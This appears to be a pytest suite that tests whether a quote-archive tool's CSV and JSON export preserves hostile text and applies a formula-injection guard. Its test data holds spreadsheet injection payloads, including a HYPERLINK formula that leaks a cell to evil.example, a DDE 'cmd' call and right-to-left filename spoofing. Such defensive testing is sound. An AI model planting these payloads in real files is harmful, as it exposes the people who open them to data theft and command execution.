"""Hostile content survives export exactly: CSV and JSON read back to the stored values.

Formula-looking text (`= + - @`, tab, CR), quotes, newlines, CRLF, right-to-left controls,
emoji sequences and 19-digit ids are stored straight through the archive's own saving function
(extraction would tidy leading tabs and CRs away), then exported by `quotes export` and read back
with the csv and json modules. CSV text cells get the OWASP formula guard (a leading `'`) unless
`--no-formula-escape`; JSON is never escaped. A second test takes the same kind of text through
the whole front door: a saved page, `quotes ingest`, `quotes export` in a real subprocess.
"""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import html
import io
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from collector.cli import cli
from collector.extract import extract_posts
from collector.output.export import CsvOptions, csv_cell, write_columns, write_csv, write_json, write_jsonl
from collector.values import Article, ArticleMeta, Post
from db.engine import make_engine, prepare_database
from db.store import save_pages

# The OWASP guard, spelled out here so a change to the writer cannot silently agree with itself.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
GUARD = "'"
# 19-digit snowflake ids: a spreadsheet or a float-parsing JSON reader would mangle them.
BIG_IDS = ("1479527384433696769", "9223372036854775807", "1000000000000000001")
HOSTILE_TEXTS = (
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1 after a tab",
    "\r=1+1 after a CR",
    'She said "no", then \'yes\'; then ""twice""',
    "line one\nline two\r\nline three after CRLF\rafter a lone CR",
    "\u202eevil.exe\u202c and \u200fRTL mark \u2067isolate\u2069 \u061c",
    "emoji 👨\u200d👩\u200d👧 🇺🇦 👍🏽 1️⃣ and text",
    ",;\t|,,",  # separators inside a cell
    " leading and trailing spaces ",
)
HOSTILE_NAMES = ("=cmd|' /C calc'!A0", "@admin", "-minus", "Ann \u202eevil\u202c", "D.C. ☮️")
ARTICLE_URL = "https://news.example/story?a=1&b=2"
ARTICLE_TITLE = '=1+1 "title"'


def hostile_posts() -> list[Post]:
    posts = []
    for number, text in enumerate(HOSTILE_TEXTS):
        post_id = BIG_IDS[number % len(BIG_IDS)][:-2] + f"{number:02d}"
        posts.append(
            Post(
                platform="twitter",
                post_id=post_id,
                url=f"https://twitter.com/h{number}/status/{post_id}",
                author_name=HOSTILE_NAMES[number % len(HOSTILE_NAMES)],
                handle=f"h{number}",
                date_text="January 7, 2022",
                date=dt.date(2022, 1, 7),
                text=text,
                links=(f"https://t.co/{number}x", "https://example.com/a,b;c"),
                lang="ar" if "\u202e" in text else "en",
            )
        )
    return posts


def expected_record(post: Post) -> dict[str, Any]:
    """The export record the issue specifies for one post quoted by one article."""
    return {
        "platform": post.platform,
        "post_id": post.post_id,
        "url": post.url,
        "handle": post.handle,
        "author_name": post.author_name,
        "date": post.date.isoformat() if post.date else None,
        "posted_at": None,
        "date_text": post.date_text,
        "text": post.text,
        "links": list(post.links),
        "lang": post.lang,
        "article_count": 1,
        "article_urls": [ARTICLE_URL],
        "date_source": "shown" if post.date else None,
        "status": None,
        "media": list(post.media),
        "quoted_url": post.quoted_url,
        "first_quoted_at": None,
        "article_titles": [ARTICLE_TITLE],
        "tags": [],
        "note": None,
    }


def csv_expected(record: dict[str, Any], *, escape: bool) -> dict[str, str]:
    """The record as CSV cells: lists space-separated, None empty, formulas guarded."""
    cells = {}
    for key, value in record.items():
        if value is None:
            cell = ""
        elif isinstance(value, list):
            cell = (" | " if key == "article_titles" else " ").join(value)
        else:
            cell = str(value)
        if escape and isinstance(value, str | list) and cell.startswith(FORMULA_STARTS):
            cell = GUARD + cell
        cells[key] = cell
    return cells


@pytest.fixture
def hostile_db(db_url: str) -> Iterator[tuple[str, list[Post]]]:
    """A database holding the hostile posts, all quoted by one article."""
    engine = make_engine(db_url)
    prepare_database(engine)
    posts = hostile_posts()
    article = Article(
        source="pages/hostile.html",
        sha256=hashlib.sha256(b"hostile").hexdigest(),
        url=ARTICLE_URL,
        meta=ArticleMeta(title=ARTICLE_TITLE),
    )
    try:
        (result,) = save_pages(engine, [(article, posts)])
        assert not isinstance(result, Exception), result
    finally:
        engine.dispose()
    yield db_url, posts


def export(db: str, *args: str) -> str:
    result = CliRunner().invoke(cli, ["--db", db, "export", *args], catch_exceptions=False)
    assert result.exit_code == 0, result.stderr
    # Result.stdout turns CRLF into LF; the raw bytes keep a CR inside a cell as written.
    return result.stdout_bytes.decode("utf-8")


def by_id(records: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    return {record["post_id"]: record for record in records}


def test_json_and_jsonl_export_keep_every_hostile_value_exactly(hostile_db: tuple[str, list[Post]]) -> None:
    db, posts = hostile_db
    expected = by_id([expected_record(post) for post in posts])
    as_json = json.loads(export(db, "--format", "json"))
    as_jsonl = [json.loads(line) for line in export(db, "--format", "jsonl").split("\n")[:-1]]
    for records in (as_json, as_jsonl):
        assert [list(record) for record in records] == [list(expected_record(posts[0]))] * len(posts)
        assert by_id(records) == expected  # ids stay strings: json never saw a number


@pytest.mark.parametrize("escape", [True, False], ids=["formula-escape", "no-formula-escape"])
def test_csv_export_reads_back_exactly_with_the_formula_guard(
    hostile_db: tuple[str, list[Post]], escape: bool
) -> None:
    db, posts = hostile_db
    text = export(db, *(() if escape else ("--no-formula-escape",)))
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    expected = [csv_expected(expected_record(post), escape=escape) for post in posts]
    assert {row["post_id"]: row for row in rows} == {row["post_id"]: row for row in expected}
    guarded = [row["text"] for row in rows if row["text"].startswith(GUARD)]
    assert len(guarded) == (6 if escape else 0)  # the six formula starts of HOSTILE_TEXTS


def test_csv_is_rfc4180_with_crlf_records_and_newlines_kept_inside_cells(
    hostile_db: tuple[str, list[Post]],
) -> None:
    db, posts = hostile_db
    text = export(db, "--no-formula-escape")
    header, _, _ = text.partition("\r\n")
    assert header == ",".join(expected_record(posts[0]))
    multiline = next(post.text for post in posts if post.text and "\r\n" in post.text)
    assert '"' + multiline.replace('"', '""') + '"' in text  # quoted, CR and LF untouched


# --- through the front door ------------------------------------------------------------------------

FRONT_DOOR_TEXTS = (
    '=HYPERLINK("http://evil.example","x")',
    "+1 -1",
    "-rf /",
    "@everyone look",
    '"quoted" and \u202eevil\u202c \u200f and 👨\u200d👩\u200d👧\nsecond line',
)


def embed(number: int, text: str) -> str:
    post_id = f"14795273844336967{number:02d}"
    body = "<br>".join(html.escape(line) for line in text.split("\n"))
    return (
        f'<blockquote class="twitter-tweet"><p lang="en" dir="ltr">{body}</p>&mdash; '
        f"{html.escape(HOSTILE_NAMES[number % len(HOSTILE_NAMES)])} (@h{number}) "
        f'<a href="https://twitter.com/h{number}/status/{post_id}">January 7, 2022</a></blockquote>'
    )


def quotes(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess[bytes]:
    command = [sys.executable, "-m", "collector", *args]
    return subprocess.run(command, capture_output=True, env=env, timeout=120, check=False)


def test_ingest_then_export_in_a_subprocess_keeps_what_extraction_found(tmp_path: Path) -> None:
    # SQLite only: the CliRunner tests above export from both databases; this one is the real process.
    db_url = str(tmp_path / "quotes.db")
    page = tmp_path / "hostile.html"
    body = "\n".join(embed(number, text) for number, text in enumerate(FRONT_DOOR_TEXTS))
    page.write_text(f"<html><body>{body}</body></html>", encoding="utf-8")
    found = extract_posts(page.read_text(encoding="utf-8"))
    assert [post.text for post in found] == list(FRONT_DOOR_TEXTS)
    # A C locale must not matter: the data is written as UTF-8 whatever the terminal says.
    env = {**os.environ, "LC_ALL": "C", "LANG": "C", "PYTHONIOENCODING": ""}
    ingested = quotes("--db", db_url, "ingest", str(page), env=env)
    assert ingested.returncode == 0, ingested.stderr
    exported = quotes("--db", db_url, "export", "--format", "json", env=env)
    assert exported.returncode == 0, exported.stderr
    records = by_id(json.loads(exported.stdout.decode("utf-8")))
    target = tmp_path / "out.csv"
    assert quotes("--db", db_url, "export", "-o", str(target), env=env).returncode == 0
    with target.open(encoding="utf-8", newline="") as handle:
        rows = {row["post_id"]: row for row in csv.DictReader(handle)}
    for post in found:
        post_id, text = str(post.post_id), str(post.text)
        record = records[post_id]
        assert (record["text"], record["author_name"]) == (text, post.author_name)
        cells = rows[post_id]
        assert cells["text"] == (GUARD + text if text.startswith(FORMULA_STARTS) else text)
        assert cells["post_id"] == post_id


# --- any text at all, through the writers ---------------------------------------------------------

# Any Unicode but lone surrogates (not text; no UTF-8 file can hold them), weighted towards the
# characters that matter here.
CELL_TEXT = st.one_of(
    st.text(st.characters(exclude_categories=["Cs"]), max_size=40),
    st.text(st.sampled_from("=+-@\t\r\n\",;'\u202e\u200f\ufeff\x00 a👨\u200d👩"), max_size=12),
)
FIELDS = ("post_id", "text", "author_name", "links")


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.tuples(st.from_regex(r"\A[0-9]{1,19}\Z"), CELL_TEXT, CELL_TEXT, st.lists(CELL_TEXT, max_size=3))
    )
)
def test_writers_round_trip_any_text(rows: list[tuple[str, str, str, list[str]]]) -> None:
    records = [dict(zip(FIELDS, row, strict=True)) for row in rows]
    for escape in (True, False):
        out = io.StringIO(newline="")
        write_csv(records, out, FIELDS, CsvOptions(formula_escape=escape))
        read = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
        assert read[0] == list(FIELDS)
        expected = [
            [
                GUARD + cell if escape and cell.startswith(FORMULA_STARTS) else cell
                for cell in (post_id, text, name, " ".join(links))
            ]
            for post_id, text, name, links in rows
        ]
        assert read[1:] == expected
    for writer in (write_json, write_jsonl):
        out = io.StringIO()
        writer(records, out)
        text = out.getvalue()
        # JSON Lines are split on LF only: U+2028 or U+0085 inside a string is not a line end.
        back = (
            json.loads(text) if writer is write_json else [json.loads(line) for line in text.split("\n")[:-1]]
        )
        assert back == records


@settings(max_examples=200, deadline=None)
@given(
    st.lists(st.tuples(CELL_TEXT, st.none() | CELL_TEXT, st.lists(CELL_TEXT, max_size=3).map(tuple))),
    st.integers(1, 4),
    st.sampled_from([CsvOptions(), CsvOptions(formula_escape=False), CsvOptions(excel=True)]),
)
def test_columns_write_any_text_as_records_do(
    rows: list[tuple[str, str | None, tuple[str, ...]]], size: int, options: CsvOptions
) -> None:
    """The export's fast path (batches of columns) writes the same bytes as record by record."""
    fields = ("text", "author_name", "links")
    batches = [list(zip(*rows[start : start + size], strict=True)) for start in range(0, len(rows), size)]
    by_column, by_record = io.StringIO(newline=""), io.StringIO(newline="")
    write_columns([batch or [(), (), ()] for batch in batches], by_column, "csv", fields, options)
    write_csv([dict(zip(fields, row, strict=True)) for row in rows], by_record, fields, options)
    assert by_column.getvalue() == by_record.getvalue()


# Cells of every kind a column may hold: text, no value, counts, lists of text.
ANY_CELL = st.one_of(CELL_TEXT, st.none(), st.integers(0, 10**6), st.lists(CELL_TEXT, max_size=3).map(tuple))


@settings(max_examples=300, deadline=None)
@given(
    st.integers(1, 4).flatmap(lambda width: st.lists(st.lists(ANY_CELL, min_size=width, max_size=width))),
    st.integers(1, 4),
    st.sampled_from([CsvOptions(), CsvOptions(formula_escape=False), CsvOptions(excel=True)]),
)
def test_csv_bytes_are_what_the_csv_module_writes(
    rows: list[list[Any]], size: int, options: CsvOptions
) -> None:
    """The export's own CSV lines are byte for byte csv.writer's (QUOTE_MINIMAL, CRLF) over each
    cell's text, whatever the cells hold and however the rows are batched."""
    width = len(rows[0]) if rows else 2
    fields = [f"f{number}" for number in range(width)]
    batches = [list(zip(*rows[start : start + size], strict=True)) for start in range(0, len(rows), size)]
    out = io.StringIO(newline="")
    write_columns(batches, out, "csv", fields, options)
    expected = io.StringIO(newline="")
    expected.write("\ufeff" if options.excel else "")
    writer = csv.writer(expected, lineterminator="\r\n")
    writer.writerows([fields, *([csv_cell(cell, options) for cell in row] for row in rows)])
    assert out.getvalue() == expected.getvalue()


def test_jsonl_keeps_one_record_per_line_whatever_line_breaks_the_text_holds() -> None:
    records = [{"post_id": "1", "text": "a\u2028b\u2029c\u0085d\re\nf"}, {"post_id": "2", "text": "g"}]
    out = io.StringIO()
    write_jsonl(records, out)
    lines = out.getvalue().splitlines()
    assert [json.loads(line) for line in lines] == records
